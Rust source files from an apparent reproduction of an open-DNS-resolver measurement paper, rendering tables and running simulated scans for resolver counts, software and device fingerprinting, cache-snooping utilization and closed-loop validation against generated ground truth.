use crate::experiments::{Fig1Report, Fig2Report, FluxRow, Table3Report, Table4Report, UtilReport};
use crate::pipeline::AnalysisReport;
use std::fmt::Write as _;

/// Render Figure 1's weekly series as an aligned text table.
pub fn render_fig1(report: &Fig1Report) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "Figure 1 — responding DNS resolvers per weekly scan");
    let _ = writeln!(
        out,
        "{:>5} {:>10} {:>10} {:>10} {:>10} {:>9}",
        "week", "ALL", "NOERROR", "REFUSED", "SERVFAIL", "proxy%"
    );
    for w in &report.weeks {
        let _ = writeln!(
            out,
            "{:>5} {:>10} {:>10} {:>10} {:>10} {:>8.2}%",
            w.week,
            w.all,
            w.noerror,
            w.refused,
            w.servfail,
            100.0 * w.proxy_responders as f64 / w.all.max(1) as f64
        );
    }
    if let (Some(first), Some(last)) = (report.weeks.first(), report.weeks.last()) {
        let decline = 100.0 * (1.0 - last.noerror as f64 / first.noerror.max(1) as f64);
        let _ = writeln!(
            out,
            "NOERROR decline over the study: {:.1}% (paper: 26.8M → 17.8M, −33.6%)",
            decline
        );
    }
    if let Some(last) = report.weeks.last() {
        let _ = writeln!(
            out,
            "answers from a different source IP (DNS proxies / multi-homed, Sec. 2.5): {:.2}% of responders (paper: ~2.5%)",
            100.0 * last.proxy_responders as f64 / last.all.max(1) as f64
        );
    }
    if !report.ground_truth_noerror.is_empty() {
        let _ = writeln!(
            out,
            "cross-check vs ground truth (Open-Resolver-Project analogue): max deviation {:.2}% (paper: within 2%)",
            100.0 * report.max_cross_check_error()
        );
    }
    out
}

/// Render a fluctuation table (Tables 1 and 2 share the shape).
pub fn render_flux(title: &str, rows: &[FluxRow]) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "{title}");
    let _ = writeln!(
        out,
        "{:>8} {:>10} {:>10} {:>10} {:>8}",
        "key", "first", "last", "delta", "pct"
    );
    for r in rows {
        let _ = writeln!(
            out,
            "{:>8} {:>10} {:>10} {:>+10} {:>7.1}%",
            r.key,
            r.first,
            r.last,
            r.delta(),
            r.pct()
        );
    }
    out
}

/// Render Table 3.
pub fn render_table3(report: &Table3Report) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "Table 3 — CHAOS version fingerprinting");
    let total = report.responding.max(1) as f64;
    let _ = writeln!(
        out,
        "responding: {}   errors: {:.1}%   empty: {:.1}%   custom: {:.1}%   genuine: {:.1}%",
        report.responding,
        100.0 * report.errors as f64 / total,
        100.0 * report.empty as f64 / total,
        100.0 * report.custom as f64 / total,
        100.0 * report.genuine as f64 / total,
    );
    let _ = writeln!(
        out,
        "(paper: 42.7% errors, 4.6% empty, 18.8% custom, 33.9% genuine)"
    );
    let _ = writeln!(out, "{:<22} {:>8}  known CVE classes", "software", "share");
    for (k, share) in report.top_versions(10) {
        let cve = resolversim::software::TABLE3_SOFTWARE
            .iter()
            .find(|(f, v, _, _)| format!("{f} {v}") == k)
            .map(|(_, _, _, c)| *c)
            .unwrap_or("-");
        let _ = writeln!(out, "{k:<22} {share:>7.1}%  {cve}");
    }
    let _ = writeln!(
        out,
        "BIND share among leakers: {:.1}% (paper: 60.2%)",
        100.0 * report.bind_share()
    );
    out
}

/// Render Table 4.
pub fn render_table4(report: &Table4Report) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "Table 4 — device fingerprinting");
    let _ = writeln!(
        out,
        "TCP responsive: {} of {} ({:.1}%; paper: 26.3%)",
        report.tcp_responsive,
        report.fleet,
        100.0 * report.tcp_responsive as f64 / report.fleet.max(1) as f64
    );
    let mut hw: Vec<_> = report.hardware.iter().collect();
    hw.sort_by(|a, b| b.1.partial_cmp(a.1).unwrap());
    let _ = writeln!(out, "hardware:");
    for (k, v) in hw {
        let _ = writeln!(out, "  {k:<12} {v:>6.1}%");
    }
    let mut os: Vec<_> = report.os.iter().collect();
    os.sort_by(|a, b| b.1.partial_cmp(a.1).unwrap());
    let _ = writeln!(out, "os:");
    for (k, v) in os {
        let _ = writeln!(out, "  {k:<12} {v:>6.1}%");
    }
    out
}

/// Render Figure 2.
pub fn render_fig2(report: &Fig2Report) -> String {
    let mut out = String::new();
    let c = &report.churn;
    let _ = writeln!(
        out,
        "Figure 2 — IP churn of the initial cohort ({} resolvers)",
        c.cohort
    );
    let day1 = 100.0 * c.day1_survivors as f64 / c.cohort.max(1) as f64;
    let _ = writeln!(out, "day-1 survival: {day1:.1}% (paper: <60%)");
    for (i, s) in c.survivors.iter().enumerate() {
        let pct = 100.0 * *s as f64 / c.cohort.max(1) as f64;
        let _ = writeln!(
            out,
            "  week {:>2}: {:>6.1}% still at their address",
            i + 1,
            pct
        );
    }
    if c.day1_leavers_with_rdns > 0 {
        let _ = writeln!(
            out,
            "day-1 leavers with dynamic rDNS tokens: {:.1}% (paper: 67.4%)",
            100.0 * c.day1_leavers_dynamic_rdns as f64 / c.day1_leavers_with_rdns as f64
        );
    }
    out
}

/// Render the utilization report.
pub fn render_util(report: &UtilReport) -> String {
    let mut out = String::new();
    let _ = writeln!(
        out,
        "Sec. 2.6 — cache-snooping utilization ({} resolvers probed)",
        report.probed
    );
    for (k, v) in &report.shares {
        let _ = writeln!(out, "  {k:<20} {v:>6.1}%");
    }
    let _ = writeln!(
        out,
        "in-use total: {:.1}% (paper: 61.6%)",
        report.in_use_share()
    );
    if let (Some(med), Some(p90)) = (report.popularity_median, report.popularity_p90) {
        let _ = writeln!(
            out,
            "estimated client load (queries/hour): median {med:.1}, p90 {p90:.1} (Rajab-style follow-up)"
        );
    }
    out
}

/// Render Table 5 and the Sec. 4 headline stats — the concatenation of
/// every Sections 3–4 section renderer below.
pub fn render_analysis(report: &AnalysisReport) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "Sections 3–4 — bogus-resolution analysis");
    let _ = writeln!(out, "fleet: {} open resolvers", report.fleet_size);
    out.push_str(&render_prefilter(report));
    out.push_str(&render_table5(report));
    out.push_str(&render_fig4(report));
    out.push_str(&render_censorship(report));
    out.push_str(&render_cases(report));
    out
}

/// Render the prefilter funnel (Sec. 4.1) plus the oddity, HTTP-share
/// and clustering headline stats. Starts with a blank separator line.
pub fn render_prefilter(report: &AnalysisReport) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "\nPrefiltering (Sec. 4.1):");
    let _ = writeln!(
        out,
        "{:<12} {:>9} {:>8} {:>8} {:>8} {:>10}",
        "category", "responses", "legit%", "empty%", "error%", "unexpected%"
    );
    for (cat, s) in &report.per_category {
        let total = s.responses.max(1) as f64;
        let _ = writeln!(
            out,
            "{:<12} {:>9} {:>7.1} {:>7.1} {:>7.1} {:>10.2}",
            cat,
            s.responses,
            100.0 * s.legit as f64 / total,
            100.0 * s.empty as f64 / total,
            100.0 * s.error as f64 / total,
            100.0 * s.unexpected as f64 / total,
        );
    }
    let o = &report.oddities;
    let _ = writeln!(
        out,
        "\nOddities: suspicious={}  self-IP={}  static-single-IP={}  same-set={}  NS-only={}",
        o.suspicious_resolvers,
        o.self_ip_everywhere,
        o.static_single_ip,
        o.same_set_multi_domain,
        o.ns_only
    );
    if o.self_ip_everywhere > 0 {
        let _ = writeln!(
            out,
            "  self-IP content: {} router/CPE logins, {} IP cameras (paper: 65.9% / 7.0% of 8,194)",
            o.self_ip_router_login, o.self_ip_camera
        );
    }
    let _ = writeln!(
        out,
        "HTTP payload for {:.1}% of unexpected pairs (paper: 88.9%); LAN share of no-HTTP: {:.1}%",
        100.0 * report.http_share,
        100.0 * report.no_http_lan_share
    );
    let _ = writeln!(
        out,
        "clusters: {} ({} pages clustered, {} assigned to exemplars)",
        report.clusters, report.clustered_directly, report.assigned_to_exemplar
    );
    out
}

/// Render Table 5 — label shares per category.
pub fn render_table5(report: &AnalysisReport) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "\nTable 5 — label shares per category (avg% / max%):");
    let labels = [
        "Blocking",
        "Censorship",
        "HTTP Error",
        "Login",
        "Misc.",
        "Parking",
        "Search",
    ];
    let _ = write!(out, "{:<12}", "category");
    for l in labels {
        let _ = write!(out, "{l:>19}");
    }
    let _ = writeln!(out);
    for row in &report.table5 {
        let _ = write!(out, "{:<12}", row.category);
        for l in labels {
            let (avg, max) = row.shares.get(l).copied().unwrap_or((0.0, 0.0));
            let _ = write!(out, "{:>11.1} {:>5.1}", avg, max);
            let _ = write!(out, "  ");
        }
        let _ = writeln!(out);
    }
    out
}

/// Render Figure 4 — the country mix of unexpected answers for the
/// censorship-sensitive domains.
pub fn render_fig4(report: &AnalysisReport) -> String {
    let mut out = String::new();
    let _ = writeln!(
        out,
        "\nFigure 4 — country mix for Facebook/Twitter/YouTube (unexpected):"
    );
    let mut shares: Vec<(String, u64)> = report
        .fig4
        .unexpected
        .iter()
        .map(|(k, &v)| (k.clone(), v))
        .collect();
    shares.sort_by_key(|(_, v)| std::cmp::Reverse(*v));
    let total: u64 = shares.iter().map(|(_, v)| *v).sum();
    for (cc, v) in shares.iter().take(6) {
        let _ = writeln!(
            out,
            "  {cc}: {:.1}%",
            100.0 * *v as f64 / total.max(1) as f64
        );
    }
    let _ = writeln!(out, "(paper: CN 83.6%, IR 12.9%)");
    out
}

/// Render the Sec. 3.5 censorship headline stats.
pub fn render_censorship(report: &AnalysisReport) -> String {
    let mut out = String::new();
    let cen = &report.censorship;
    let _ = writeln!(
        out,
        "\nCensorship: {} landing IPs across {} countries (paper: 299 / 34); GFW double responses from {} resolvers",
        cen.landing.ip_count(),
        cen.landing.country_count(),
        cen.doubles.forged_then_legit.len()
    );
    out
}

/// Render the Sec. 3.6 fine-grained modifications and the Sec. 4.3
/// case studies.
pub fn render_cases(report: &AnalysisReport) -> String {
    let mut out = String::new();
    if !report.modifications.is_empty() {
        let _ = writeln!(out, "\nFine-grained page modifications (Sec. 3.6):");
        for m in report.modifications.iter().take(8) {
            let _ = writeln!(
                out,
                "  {} pages / {} tuples — added {:?}, removed {:?} (e.g. {})",
                m.pages, m.tuples, m.added, m.removed, m.example_domain
            );
        }
    }

    let cases = &report.cases;
    let _ = writeln!(out, "\nCase studies (Sec. 4.3):");
    let _ = writeln!(
        out,
        "  transparent proxies: {} TLS IPs / {} resolvers, {} HTTP-only IPs / {} resolvers (paper: 10/99 and 10/10,179)",
        cases.proxies.tls_proxy_ips.len(),
        cases.proxies.resolvers_via_tls.len(),
        cases.proxies.http_only_proxy_ips.len(),
        cases.proxies.resolvers_via_http_only.len()
    );
    let _ = writeln!(
        out,
        "  phishing: {} (ip, domain) findings (paper: 39 hosts / 1,360 resolvers)",
        cases.phishing.len()
    );
    let ad_ip_count: usize = cases.ads.by_class.values().map(|s| s.len()).sum();
    let _ = writeln!(
        out,
        "  ad manipulation: {ad_ip_count} IPs across {} classes",
        cases.ads.by_class.len()
    );
    let _ = writeln!(
        out,
        "  mail interception: {} listening IPs, {} banner clones (paper: 1,135 / 8-resolver clones)",
        cases.mail.listening_ips.len(),
        cases.mail.clone_ips.len()
    );
    let _ = writeln!(
        out,
        "  malware droppers: {} IPs via {} resolvers (paper: 30 / 228)",
        cases.malware.dropper_ips.len(),
        cases.malware.resolvers.len()
    );
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::experiments::{Fig1Report, FluxRow, Table3Report, WeekRow};

    #[test]
    fn fig1_rendering_contains_series_and_decline() {
        let report = Fig1Report {
            weeks: vec![
                WeekRow {
                    week: 0,
                    all: 100,
                    noerror: 90,
                    refused: 8,
                    servfail: 2,
                    proxy_responders: 3,
                },
                WeekRow {
                    week: 1,
                    all: 80,
                    noerror: 60,
                    refused: 8,
                    servfail: 12,
                    proxy_responders: 2,
                },
            ],
            ..Default::default()
        };
        let text = render_fig1(&report);
        assert!(text.contains("NOERROR"));
        assert!(text.contains("90"));
        assert!(text.contains("decline"));
        assert!(text.contains("33.3%"), "{text}");
    }

    #[test]
    fn flux_rendering_signs_and_percentages() {
        let rows = vec![
            FluxRow {
                key: "US".into(),
                first: 200,
                last: 100,
            },
            FluxRow {
                key: "IN".into(),
                first: 100,
                last: 150,
            },
        ];
        let text = render_flux("t", &rows);
        assert!(text.contains("-100"));
        assert!(text.contains("-50.0%"));
        assert!(text.contains("+50"));
        assert!(text.contains("50.0%"));
    }

    #[test]
    fn table3_rendering_includes_cve_column() {
        let mut report = Table3Report {
            responding: 100,
            errors: 40,
            empty: 5,
            custom: 20,
            genuine: 35,
            ..Default::default()
        };
        report.versions.insert("BIND 9.8.2".into(), 20);
        report.versions.insert("Dnsmasq 2.40".into(), 5);
        let text = render_table3(&report);
        assert!(text.contains("BIND 9.8.2"));
        assert!(text.contains("IP Bypass"), "CVE column: {text}");
        assert!(text.contains("RCE, DoS"));
    }

    #[test]
    fn analysis_rendering_smoke() {
        let report = crate::pipeline::AnalysisReport {
            fleet_size: 10,
            ..Default::default()
        };
        let text = render_analysis(&report);
        assert!(text.contains("fleet: 10 open resolvers"));
        assert!(text.contains("Table 5"));
        assert!(text.contains("Figure 4"));
    }
}
