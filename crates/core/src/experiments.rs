//! One runner per paper artifact (see DESIGN.md's experiment index).

use classify::snoopclass::{classify_snoop, estimate_full_ttls};
use classify::{classify_version, fingerprint_device, SoftwareClass, UtilizationClass};
use geodb::Rir;
use scanner::campaign::enumerate::VerificationReport;
use scanner::{banner_scan, chaos_scan, enumerate, snoop_scan, ChaosObservation, ChurnResult};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use worldgen::{World, WorldConfig};

/// The experiment registry: every id `repro --exp` accepts (besides
/// `all`), with the artifact it regenerates. `repro --list` prints it
/// and unknown ids are rejected against it.
pub const EXPERIMENTS: &[(&str, &str)] = &[
    ("fig1", "Figure 1 — weekly open-resolver counts"),
    ("tab1", "Table 1 — resolver fluctuation per country"),
    ("tab2", "Table 2 — resolver fluctuation per RIR"),
    ("tab3", "Table 3 — CHAOS software fingerprinting"),
    ("tab4", "Table 4 — TCP banner device fingerprinting"),
    ("fig2", "Figure 2 — cohort IP churn"),
    ("util", "Sec. 2.6 — cache-snooping utilization"),
    ("verify", "Sec. 2.2 — dual-vantage verification scan"),
    (
        "analysis",
        "Sec. 3 — response-manipulation analysis (tab5/fig4/censorship/cases)",
    ),
    (
        "tab5",
        "Table 5 — answer-manipulation clusters (via analysis)",
    ),
    ("fig4", "Figure 4 — manipulated-response CDF (via analysis)"),
    (
        "censorship",
        "Sec. 3.5 — censorship case studies (via analysis)",
    ),
    ("cases", "Sec. 3.6 — cluster case studies (via analysis)"),
    ("prefilter", "Sec. 3.2 — prefilter funnel (via analysis)"),
    (
        "closedloop",
        "validation — generated ground truth vs recovered values",
    ),
    ("ablations", "design-choice ablations (A-ABL1..A-ABL4)"),
];

/// Whether `id` is a valid `--exp` argument.
pub fn known_experiment(id: &str) -> bool {
    id == "all" || EXPERIMENTS.iter().any(|(k, _)| *k == id)
}

// =====================================================================
// E-FIG1 — weekly resolver counts
// =====================================================================

/// One weekly scan's counts.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct WeekRow {
    /// Scan week (0-based).
    pub week: u32,
    /// All responding resolvers.
    pub all: u64,
    /// NOERROR responders.
    pub noerror: u64,
    /// REFUSED responders.
    pub refused: u64,
    /// SERVFAIL responders.
    pub servfail: u64,
    /// Responders whose answer arrived from a different source address
    /// than the probed target — DNS proxies / multi-homed hosts
    /// (Sec. 2.5: 630k-750k per scan, ~2.5% of responders).
    pub proxy_responders: u64,
}

/// Figure 1 series, plus the per-country snapshots Table 1/2 need.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Fig1Report {
    /// One row per weekly scan.
    pub weeks: Vec<WeekRow>,
    /// Country → NOERROR resolvers in the first scan.
    pub first_by_country: BTreeMap<String, u64>,
    /// Country → NOERROR resolvers in the last scan.
    pub last_by_country: BTreeMap<String, u64>,
    /// Ground-truth alive NOERROR population per week — the analogue of
    /// the Open Resolver Project cross-check (Sec. 2.2: "the numbers
    /// for each scan match within a 2% error margin"). Excludes
    /// blacklisted (opted-out) resolvers, which the scan cannot see.
    pub ground_truth_noerror: Vec<u64>,
}

impl Fig1Report {
    /// Worst relative deviation between scan counts and ground truth.
    pub fn max_cross_check_error(&self) -> f64 {
        self.weeks
            .iter()
            .zip(&self.ground_truth_noerror)
            .map(|(w, &truth)| {
                if truth == 0 {
                    0.0
                } else {
                    (w.noerror as f64 - truth as f64).abs() / truth as f64
                }
            })
            .fold(0.0, f64::max)
    }
}

/// Run `weeks` weekly scans over a fresh world (E-FIG1, plus the
/// snapshots feeding Tables 1–2). The campaign streams into an
/// in-memory snapshot store and the report is derived back out of it —
/// the same collect/derive code `repro --store` runs against the
/// persistent [`scanstore::CampaignStore`].
pub fn fig1_weekly_counts(cfg: WorldConfig, weeks: u32) -> Fig1Report {
    let mut mem = scanstore::MemoryStore::new();
    crate::collect::collect_weekly(cfg, weeks, 0, &mut mem).expect("in-memory sink cannot fail");
    crate::collect::fig1_from_source(&mem).expect("in-memory source cannot fail")
}

// =====================================================================
// E-TAB1 / E-TAB2 — fluctuation per country / RIR
// =====================================================================

/// Fluctuation row.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct FluxRow {
    /// Country code or AS key.
    pub key: String,
    /// Count in the first scan.
    pub first: u64,
    /// Count in the last scan.
    pub last: u64,
}

impl FluxRow {
    /// Absolute change `last - first`.
    pub fn delta(&self) -> i64 {
        self.last as i64 - self.first as i64
    }

    /// Relative change in percent.
    pub fn pct(&self) -> f64 {
        if self.first == 0 {
            0.0
        } else {
            100.0 * self.delta() as f64 / self.first as f64
        }
    }
}

/// Table 1: top-`n` countries by first-scan population.
pub fn table1_country_flux(fig1: &Fig1Report, n: usize) -> Vec<FluxRow> {
    let mut rows: Vec<FluxRow> = fig1
        .first_by_country
        .iter()
        .map(|(cc, &first)| FluxRow {
            key: cc.clone(),
            first,
            last: fig1.last_by_country.get(cc).copied().unwrap_or(0),
        })
        .collect();
    rows.sort_by(|a, b| b.first.cmp(&a.first).then(a.key.cmp(&b.key)));
    rows.truncate(n);
    rows
}

/// Table 2: fluctuation per Regional Internet Registry.
pub fn table2_rir_flux(fig1: &Fig1Report) -> Vec<FluxRow> {
    let mut by_rir: BTreeMap<&'static str, (u64, u64)> = BTreeMap::new();
    for (cc, &n) in &fig1.first_by_country {
        let rir = Rir::for_country(geodb::Country::new(cc));
        by_rir.entry(rir.name()).or_insert((0, 0)).0 += n;
    }
    for (cc, &n) in &fig1.last_by_country {
        let rir = Rir::for_country(geodb::Country::new(cc));
        by_rir.entry(rir.name()).or_insert((0, 0)).1 += n;
    }
    let mut rows: Vec<FluxRow> = by_rir
        .into_iter()
        .map(|(k, (first, last))| FluxRow {
            key: k.to_string(),
            first,
            last,
        })
        .collect();
    rows.sort_by_key(|r| std::cmp::Reverse(r.first));
    rows
}

// =====================================================================
// E-TAB3 — CHAOS software fingerprinting
// =====================================================================

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
/// CHAOS fingerprinting summary (Table 3).
pub struct Table3Report {
    /// Resolvers that answered the CHAOS scan.
    pub responding: u64,
    /// Error rcodes to version.bind.
    pub errors: u64,
    /// NOERROR with empty answer.
    pub empty: u64,
    /// Custom / hidden version strings.
    pub custom: u64,
    /// Parseable software banners.
    pub genuine: u64,
    /// `family version` → count among genuine-version responders.
    pub versions: BTreeMap<String, u64>,
}

impl Table3Report {
    /// Top-n versions with shares among version-leaking resolvers.
    pub fn top_versions(&self, n: usize) -> Vec<(String, f64)> {
        let total: u64 = self.versions.values().sum();
        let mut v: Vec<(String, u64)> =
            self.versions.iter().map(|(k, &c)| (k.clone(), c)).collect();
        v.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        v.truncate(n);
        v.into_iter()
            .map(|(k, c)| (k, 100.0 * c as f64 / total.max(1) as f64))
            .collect()
    }

    /// Share of resolvers leaking genuine-looking versions.
    pub fn genuine_share(&self) -> f64 {
        if self.responding == 0 {
            0.0
        } else {
            self.genuine as f64 / self.responding as f64
        }
    }

    /// BIND share among version leakers (paper: 60.2%).
    pub fn bind_share(&self) -> f64 {
        let total: u64 = self.versions.values().sum();
        let bind: u64 = self
            .versions
            .iter()
            .filter(|(k, _)| k.starts_with("BIND"))
            .map(|(_, &c)| c)
            .sum();
        if total == 0 {
            0.0
        } else {
            bind as f64 / total as f64
        }
    }
}

/// Run the CHAOS scan and classify the answers (E-TAB3).
pub fn table3_software(world: &mut World, fleet: &[Ipv4Addr], seed: u64) -> Table3Report {
    let vantage = world.scanner_ip;
    let obs = chaos_scan(world, vantage, fleet, seed);
    let mut report = Table3Report::default();
    for o in obs.values() {
        match o {
            ChaosObservation::Silent => {}
            ChaosObservation::Errors => {
                report.responding += 1;
                report.errors += 1;
            }
            ChaosObservation::EmptyAnswers => {
                report.responding += 1;
                report.empty += 1;
            }
            ChaosObservation::Version(v) => {
                report.responding += 1;
                match classify_version(v) {
                    SoftwareClass::Known { family, version } => {
                        report.genuine += 1;
                        *report
                            .versions
                            .entry(format!("{family} {version}"))
                            .or_insert(0) += 1;
                    }
                    SoftwareClass::Custom(_) => report.custom += 1,
                }
            }
        }
    }
    report
}

// =====================================================================
// E-TAB4 — device fingerprinting
// =====================================================================

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
/// Device fingerprinting summary (Table 4).
pub struct Table4Report {
    /// Resolvers probed.
    pub fleet: u64,
    /// Resolvers with at least one open TCP service.
    pub tcp_responsive: u64,
    /// Hardware label → share (%) of TCP-responsive hosts.
    pub hardware: BTreeMap<String, f64>,
    /// OS label → share (%).
    pub os: BTreeMap<String, f64>,
}

/// Run the banner scan and fingerprint devices (E-TAB4).
pub fn table4_devices(world: &mut World, fleet: &[Ipv4Addr]) -> Table4Report {
    let banners = banner_scan(world, fleet);
    let mut hardware: BTreeMap<String, u64> = BTreeMap::new();
    let mut os: BTreeMap<String, u64> = BTreeMap::new();
    for obs in banners.values() {
        let fp = fingerprint_device(obs);
        *hardware.entry(fp.class.label().to_string()).or_insert(0) += 1;
        *os.entry(fp.os.label().to_string()).or_insert(0) += 1;
    }
    let total = banners.len().max(1) as f64;
    Table4Report {
        fleet: fleet.len() as u64,
        tcp_responsive: banners.len() as u64,
        hardware: hardware
            .into_iter()
            .map(|(k, v)| (k, 100.0 * v as f64 / total))
            .collect(),
        os: os
            .into_iter()
            .map(|(k, v)| (k, 100.0 * v as f64 / total))
            .collect(),
    }
}

// =====================================================================
// E-FIG2 — IP churn
// =====================================================================

/// Figure 2 data plus the dynamic-rDNS attribution.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Fig2Report {
    /// Measured cohort survival.
    pub churn: ChurnResult,
}

/// Track the initial cohort for `weeks` weeks (E-FIG2), through the
/// same collect/derive split as [`fig1_weekly_counts`].
pub fn fig2_churn(cfg: WorldConfig, weeks: u32) -> Fig2Report {
    let mut mem = scanstore::MemoryStore::new();
    crate::collect::collect_churn(cfg, weeks, &mut mem).expect("in-memory sink cannot fail");
    crate::collect::fig2_from_source(&mem).expect("in-memory source cannot fail")
}

// =====================================================================
// E-UTIL — cache snooping utilization
// =====================================================================

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
/// Cache-utilization summary (Sec. 2.6).
pub struct UtilReport {
    /// Resolvers snooped.
    pub probed: u64,
    /// Class → share (%) of probed resolvers.
    pub shares: BTreeMap<String, f64>,
    /// Estimated client query rates (queries/hour) for resolvers with
    /// observable refreshes — the Rajab-style popularity follow-up.
    pub popularity_median: Option<f64>,
    /// 90th percentile of estimated TLD popularity (refresh rate).
    pub popularity_p90: Option<f64>,
}

impl UtilReport {
    /// Share of probed resolvers in `class`.
    pub fn share(&self, class: UtilizationClass) -> f64 {
        self.shares
            .get(&format!("{class:?}"))
            .copied()
            .unwrap_or(0.0)
    }

    /// Combined in-use share (paper: 61.6%).
    pub fn in_use_share(&self) -> f64 {
        self.share(UtilizationClass::InUse) + self.share(UtilizationClass::InUseFrequent)
    }
}

/// Snoop `sample` resolvers for `rounds` hourly rounds and classify
/// utilization (E-UTIL). Advances world time by `rounds` hours.
pub fn utilization(
    world: &mut World,
    fleet: &[Ipv4Addr],
    sample: usize,
    rounds: usize,
) -> UtilReport {
    let vantage = world.scanner_ip;
    let sample: Vec<Ipv4Addr> = fleet.iter().copied().take(sample).collect();
    let snooped = snoop_scan(world, vantage, &sample, rounds, 0x5009);
    // The TLD NS TTLs are public zone data (one authoritative query
    // each); the survey-based estimator remains available for settings
    // where that is not an option.
    let full: Vec<u32> = world.universe.tlds().iter().map(|t| t.ttl).collect();
    let results: Vec<&scanner::SnoopResult> = snooped.values().collect();
    let _ = estimate_full_ttls(&results);
    let mut counts: BTreeMap<String, u64> = BTreeMap::new();
    let mut rates: Vec<f64> = Vec::new();
    for r in snooped.values() {
        let class = classify_snoop(r, &full);
        *counts.entry(format!("{class:?}")).or_insert(0) += 1;
        if let Some(rate) = classify::snoopclass::estimate_popularity(r, &full) {
            rates.push(rate);
        }
    }
    rates.sort_by(|a, b| a.partial_cmp(b).unwrap());
    let pct = |p: f64| -> Option<f64> {
        if rates.is_empty() {
            None
        } else {
            Some(rates[((rates.len() - 1) as f64 * p) as usize])
        }
    };
    let total = snooped.len().max(1) as f64;
    UtilReport {
        probed: snooped.len() as u64,
        shares: counts
            .into_iter()
            .map(|(k, v)| (k, 100.0 * v as f64 / total))
            .collect(),
        popularity_median: pct(0.5),
        popularity_p90: pct(0.9),
    }
}

// =====================================================================
// Closed-loop validation: generated ground truth vs recovered values
// =====================================================================

/// One validation row.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ClosedLoopRow {
    /// Metric name.
    pub metric: String,
    /// Ground-truth (planted) value.
    pub generated: f64,
    /// Value the blind pipeline recovered.
    pub recovered: f64,
}

impl ClosedLoopRow {
    /// Relative error of the recovery.
    pub fn rel_error(&self) -> f64 {
        if self.generated == 0.0 {
            if self.recovered == 0.0 {
                0.0
            } else {
                f64::INFINITY
            }
        } else {
            (self.recovered - self.generated).abs() / self.generated.abs()
        }
    }
}

/// Compare what the generator planted against what the measurement
/// pipeline recovered — the validation loop DESIGN.md promises. Uses
/// the landscape campaigns (enumeration, CHAOS, banners, snooping).
pub fn closed_loop(world: &mut World, snoop_sample: usize) -> Vec<ClosedLoopRow> {
    use worldgen::world::ResponseClass;
    let vantage = world.scanner_ip;
    let mut rows = Vec::new();

    // Ground truth from resolver metadata.
    let truth_counts = world.alive_counts();
    let truth_noerror = *truth_counts.get(&ResponseClass::NoError).unwrap_or(&0) as f64;
    let truth_refused = *truth_counts.get(&ResponseClass::Refused).unwrap_or(&0) as f64;
    let alive: Vec<&worldgen::ResolverMeta> = world
        .resolvers
        .iter()
        .filter(|m| m.alive.load(std::sync::atomic::Ordering::Relaxed))
        .collect();
    let alive_noerror: Vec<&&worldgen::ResolverMeta> = alive
        .iter()
        .filter(|m| m.response_class == ResponseClass::NoError)
        .collect();
    // The device plan records only *recognizable* devices; hosts with
    // unrecognizable banners are also TCP-exposed, so ground truth is
    // the plan constant.
    let truth_tcp = worldgen::plan::TCP_EXPOSED_FRACTION;
    let truth_genuine = alive_noerror.iter().filter(|m| m.chaos_genuine).count() as f64
        / alive_noerror.len().max(1) as f64;
    let truth_zynos = alive_noerror
        .iter()
        .filter(|m| matches!(m.device, Some(worldgen::plan::DeviceClassPlan::RouterZyNos)))
        .count() as f64;

    // Measurements.
    let enumeration = enumerate(world, vantage, 0xC105ED);
    let counts = enumeration.counts();
    let fleet = enumeration.noerror_ips();
    rows.push(ClosedLoopRow {
        metric: "NOERROR resolvers".into(),
        generated: truth_noerror,
        recovered: counts.get("NOERROR").copied().unwrap_or(0) as f64,
    });
    rows.push(ClosedLoopRow {
        metric: "REFUSED resolvers".into(),
        generated: truth_refused,
        recovered: counts.get("REFUSED").copied().unwrap_or(0) as f64,
    });

    let t3 = table3_software(world, &fleet, 0xC105ED);
    rows.push(ClosedLoopRow {
        metric: "genuine version share".into(),
        generated: truth_genuine,
        recovered: t3.genuine as f64 / t3.responding.max(1) as f64,
    });

    let t4 = table4_devices(world, &fleet);
    rows.push(ClosedLoopRow {
        metric: "TCP-exposed share".into(),
        generated: truth_tcp,
        recovered: t4.tcp_responsive as f64 / t4.fleet.max(1) as f64,
    });
    rows.push(ClosedLoopRow {
        metric: "ZyNOS devices".into(),
        generated: truth_zynos,
        recovered: t4.os.get("ZyNOS").copied().unwrap_or(0.0) / 100.0 * t4.tcp_responsive as f64,
    });

    // Utilization: generated in-use share (frequent + slow profiles of
    // the plan) vs recovered classification.
    let util = utilization(world, &fleet, snoop_sample, 36);
    let plan = worldgen::plan::UTILIZATION_PLAN;
    rows.push(ClosedLoopRow {
        metric: "in-use share".into(),
        generated: plan.frequent + plan.in_use_slow,
        recovered: util.in_use_share() / 100.0,
    });

    rows
}

/// Render the closed-loop table.
pub fn render_closed_loop(rows: &[ClosedLoopRow]) -> String {
    use std::fmt::Write as _;
    let mut out = String::new();
    let _ = writeln!(out, "Closed-loop validation — generated vs recovered");
    let _ = writeln!(
        out,
        "{:<28} {:>12} {:>12} {:>8}",
        "metric", "generated", "recovered", "err"
    );
    for r in rows {
        let _ = writeln!(
            out,
            "{:<28} {:>12.2} {:>12.2} {:>7.1}%",
            r.metric,
            r.generated,
            r.recovered,
            100.0 * r.rel_error()
        );
    }
    out
}

// =====================================================================
// E-VERIF — dual-vantage verification
// =====================================================================

/// Run the verification experiment at the world's current time.
pub fn verification(world: &mut World, seed: u64) -> VerificationReport {
    let vantage = world.scanner_ip;
    let primary = enumerate(world, vantage, seed);
    scanner::campaign::enumerate::verify_scan(world, &primary, seed)
}
