//! One experiment per paper artifact (see DESIGN.md's experiment
//! index), behind the typed [`REGISTRY`]: every entry declares the
//! campaign kinds it needs and a pure derivation from a collected
